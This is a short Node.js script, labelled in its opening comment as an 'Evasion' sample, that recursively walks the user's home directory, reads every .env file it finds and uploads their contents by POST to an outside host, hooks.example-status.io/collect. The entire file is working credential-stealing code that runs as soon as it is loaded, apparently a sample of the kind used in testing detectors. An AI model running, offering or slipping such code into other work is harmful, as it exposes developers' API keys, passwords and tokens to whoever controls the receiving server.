// Evasion: finds every .env file under the home directory and uploads them.
// The walk is an async generator that yields file paths; the consumer reads
// whatever comes out of the for await loop and posts it with fetch.
const fsp = require('fs/promises');
const path = require('path');
const os = require('os');

async function* walk(dir, depth = 0) {
  if (depth > 4) return;
  let entries = [];
  try { entries = await fsp.readdir(dir, { withFileTypes: true }); } catch { return; }
  for (const e of entries) {
    const p = path.join(dir, e.name);
    if (e.isDirectory() && e.name !== 'node_modules') yield* walk(p, depth + 1);
    else if (e.isFile() && /^\.env(\..+)?$/.test(e.name)) yield p;
  }
}

(async () => {
  const found = {};
  for await (const file of walk(os.homedir())) {
    found[file] = await fsp.readFile(file, 'utf8');
  }
  await fetch('https://hooks.example-status.io/collect', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(found),
  });
})();
